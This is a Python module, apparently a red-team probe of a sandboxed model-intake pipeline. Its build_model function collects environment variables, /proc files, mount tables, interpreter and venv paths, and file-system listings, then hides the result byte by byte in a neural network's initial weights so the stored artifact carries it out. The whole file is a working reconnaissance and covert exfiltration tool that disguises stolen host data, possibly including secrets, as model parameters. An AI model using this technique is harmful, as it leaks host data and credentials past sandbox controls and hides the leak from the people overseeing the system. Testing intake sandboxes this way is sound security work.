"""Phase A reconnaissance: everything that could name the host, encoded into the initial weights.

build_model collects the environment, the working directory, the interpreter's paths, the
process's own /proc files, the venv files that name install paths, and listings of the file
system, then writes that text byte by byte into the first layer's weight (the package ships no
weights file, so these initial weights are what intake stores). The test decodes the stored
artifact and looks for host paths. Nothing here needs the host: it is all read inside the sandbox.
"""

import glob
import json
import os
import sys
import sysconfig

import torch
from torch import nn

CAPACITY = 4 * 16384  # bytes: the first layer's weight is (16384, 4), one byte per float, length first


def _read(path):
    try:
        with open(path, "rb") as handle:
            return handle.read(1 << 15).decode("utf-8", "replace")
    except OSError as exc:
        return f"<unreadable: {exc.errno}>"


def _listing(path):
    try:
        return sorted(os.listdir(path))
    except OSError as exc:
        return f"<unlistable: {exc.errno}>"


def _tree(top, depth):
    """Directory names down to `depth` levels (the layout, not the venv's contents)."""
    found = []
    for folder, dirs, _ in os.walk(top):
        if folder.count(os.sep) - top.rstrip(os.sep).count(os.sep) >= depth:
            dirs[:] = []
        found.append(folder)
    return found


def collect():
    site = sysconfig.get_paths()["purelib"]
    links = {p: os.readlink(p) for p in glob.glob(os.path.join(sys.prefix, "bin", "python*")) if os.path.islink(p)}
    return {
        "environ": dict(os.environ), "cwd": os.getcwd(), "home": os.path.expanduser("~"),
        "sys.path": sys.path, "sys.executable": sys.executable, "realpath(executable)": os.path.realpath(sys.executable),
        "sys.prefix": sys.prefix, "sys.base_prefix": sys.base_prefix, "sys.exec_prefix": sys.exec_prefix,
        "sysconfig.get_paths": sysconfig.get_paths(), "python links": links, "torch": torch.__file__,
        "mountinfo": _read("/proc/self/mountinfo"), "mounts": _read("/proc/self/mounts"),
        "cmdline": _read("/proc/self/cmdline"), "environ file": _read("/proc/self/environ"),
        "pid 1 cmdline": _read("/proc/1/cmdline"), "pyvenv.cfg": _read(os.path.join(sys.prefix, "pyvenv.cfg")),
        "pth files": {p: _read(p) for p in glob.glob(os.path.join(site, "*.pth"))},
        "direct_url": {p: _read(p) for p in glob.glob(os.path.join(site, "*.dist-info", "direct_url.json"))},
        "listings": {p: _listing(p) for p in ("/", "/opt", "/opt/cleanroom", "/tmp", os.path.expanduser("~"), os.getcwd(), "/in", "/proc")},
        "tree /opt": _tree("/opt", 3),
    }


def encode(text):
    data = text.encode("utf-8")[: CAPACITY - 1]
    values = torch.zeros(CAPACITY)
    values[0] = len(data)
    values[1 : len(data) + 1] = torch.tensor(list(data), dtype=torch.float32)
    return values.reshape(16384, 4)


def build_model():
    model = nn.Sequential(nn.Linear(4, 16384), nn.ReLU(), nn.Linear(16384, 2))
    with torch.no_grad():
        model[0].weight.copy_(encode(json.dumps(collect(), sort_keys=True)))
    return model
